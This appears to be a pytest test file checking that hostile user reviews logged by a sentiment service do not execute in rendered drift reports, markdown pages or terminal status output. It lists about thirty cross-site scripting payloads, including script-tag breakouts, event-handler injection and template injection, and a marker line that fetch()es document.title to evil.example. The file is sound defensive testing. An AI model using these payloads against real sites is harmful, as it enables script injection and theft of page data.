"""What people have written is shown in reports and pages, and is nowhere run."""

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from projects import Project, copied
from services import Service, service_of

MARK = "window.stolen = 1; fetch('http://evil.example/?' + document.title)"
# Each ends a script or a string in its own way; some are long, since short tags are cut out.
HOSTILE = [
    "</script><script>MARK</script>",
    "</SCRIPT ><script>MARK</script>",
    "</script\n><script>MARK</script>",
    "</script\t/ ><script >MARK</script >",
    f"</script {'x' * 30}><script {'y' * 30}>MARK</script {'z' * 30}>",
    f"</script/{'x' * 60}><script/{'y' * 60}>MARK</script>",
    "<!--<script>--></script><script>MARK</script>",
    '<!-- <script> </script> --> </script><img src=x onerror="MARK">',
    f'<img src=x {"x" * 30} onerror="MARK">',
    f'<svg {"x" * 30} onload="MARK">',
    f'<iframe {"x" * 30} srcdoc="<script>MARK</script>">',
    f'<a {"x" * 30} href="javascript:MARK">click</a>',
    '"; MARK; //',
    "'; MARK; //",
    "`; MARK; //",
    "${MARK}",
    '\\"; MARK; //',
    "\\u003c/script\\u003e\\u003cscript\\u003eMARK\\u003c/script\\u003e",
    "&lt;/script&gt;&lt;script&gt;MARK&lt;/script&gt;",
    "]]></script><script>MARK</script>",
    "\N{LINE SEPARATOR}</script><script>MARK</script>",
    "<scr<script>ipt>MARK</scr</script>ipt>",
    "{{constructor.constructor('MARK')()}}",
    "%3C/script%3E%3Cscript%3EMARK%3C/script%3E",
    f"<math {'x' * 30}><mtext></script><img src=x onerror='MARK'>",
    f"<style {'x' * 30}>@import 'http://evil.example/';</style>",
    f"<meta {'x' * 30} http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<base {'x' * 30} href='http://evil.example/'>",
    f"<object {'x' * 30} data='http://evil.example/'></object>",
    f"<form {'x' * 30} action='http://evil.example/'><button autofocus onfocus='MARK'>",
]


@pytest.fixture
def attacked(made: Callable[[str], Project], tmp_path: Path) -> Project:
    """A project whose log is full of hostile reviews, which were answered as others are."""
    project = copied(made("sentiment"), tmp_path / "my-reviews")
    for path in project.folder.glob("predictions.db*"):
        path.unlink()
    texts = [text.replace("MARK", MARK) for text in HOSTILE]
    with service_of(project, tmp_path / "service") as service:
        service.start()
        send(service, texts)
        service.terminate()
        service.database.rename(project.folder / "predictions.db")
    return project


def send(service: Service, texts: list[str]) -> None:
    """Each of the texts a few times, among others: few of what repeats itself is judged."""
    for number in range(8):
        filled = [{"text": f"{text} A film of the year {number}."} for text in texts]
        status, answer = service.post("/predict/batch", filled)
        assert status == 200, answer
        assert len(json.loads(answer)) == len(texts)


def open_page(page: Page, path: Path) -> list[str]:
    """Opens a file as a reader would; gives what it has asked of other hosts, or said."""
    happened: list[str] = []
    page.on("dialog", lambda dialog: happened.append(f"dialog: {dialog.message}"))
    page.on(
        "request",
        lambda request: happened.append(request.url) if "evil" in request.url else None,
    )
    page.goto(path.as_uri())
    page.wait_for_timeout(3000)
    if page.evaluate("window.stolen"):
        happened.append("a script ran")
    if page.url != path.as_uri():
        happened.append(f"it went to {page.url}")
    return happened


def test_a_script_in_a_review_does_not_run_in_evidentlys_report(
    attacked: Project, browser: Browser
) -> None:
    finished = attacked.run("monitor")
    assert finished.returncode in (0, 3), finished.stderr
    report = attacked.folder / "reports" / attacked.decisions()[-1]["report"]

    with browser.new_context() as context:
        page = context.new_page()
        happened = open_page(page, report)
        shown = page.locator("body").inner_text()

    assert happened == []
    assert "Drift" in shown, shown  # it was drawn all the same


def test_the_log_keeps_the_reviews_as_they_were_written(attacked: Project) -> None:
    path = attacked.folder / "predictions.db"
    with closing(sqlite3.connect(path)) as database:
        rows = database.execute("select input from predictions").fetchall()
    texts = {json.loads(row[0])["text"].partition(" A film of the year")[0] for row in rows}

    assert texts == {text.replace("MARK", MARK) for text in HOSTILE}


def test_names_of_labels_and_sources_do_no_harm_in_pages(
    made: Callable[[str], Project], tmp_path: Path
) -> None:
    """They come from the owner's file: a bar or a line break may not break a table."""
    project = copied(made("sentiment"), tmp_path / "my-reviews")
    hostile = "a|b\r\n<img src=x onerror=alert(1)>\x1b[31m"
    history = project.folder / "champion" / "history.jsonl"
    entries = project.history()
    entries[-1]["reasons"].append(hostile)
    history.write_text("".join(json.dumps(entry) + "\n" for entry in entries), "utf-8")

    assert project.run("report").returncode == 0
    page = project.text("docs/results.md")
    status = project.run("status")

    assert "<img" not in page
    assert "a|b" not in page.replace("a\\|b", "")
    assert status.returncode == 0
    assert "\x1b" not in status.stdout
